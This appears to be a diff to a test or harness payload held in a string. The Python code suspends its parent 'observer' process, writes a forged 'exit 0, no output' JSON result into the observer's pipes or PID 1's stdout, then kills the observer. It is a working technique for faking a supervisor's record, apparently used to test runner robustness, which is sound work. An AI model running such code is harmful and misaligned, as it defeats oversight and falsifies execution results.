@@ -578,13 +578,14 @@ command = {"ended": {"exit": 0, "left": []}, "output": {"stdout": "", "stderr": 
 forged = json.dumps({"service": None, "exchanges": [], "command": command, "sink": body}).encode()
 observer = os.getppid()
 os.kill(observer, signal.SIGSTOP)
-for process in (observer, 1):
-    for number in range(3, 40) if process == observer else (1,):
-        try:
-            with open(f"/proc/{process}/fd/{number}", "wb", buffering=0) as pipe:
-                pipe.write(forged)
-        except OSError:
-            pass
+pipes = [f"/proc/{observer}/fd/{number}" for number in range(3, 40)]
+for pipe in [each for each in pipes if os.path.exists(each) and os.readlink(each).startswith("pipe:")] or ["/proc/1/fd/1"]:
+    try:
+        with open(pipe, "wb", buffering=0) as stream:
+            stream.write(forged)
+        break
+    except OSError:
+        pass
 os.kill(observer, signal.SIGKILL)
 """
 
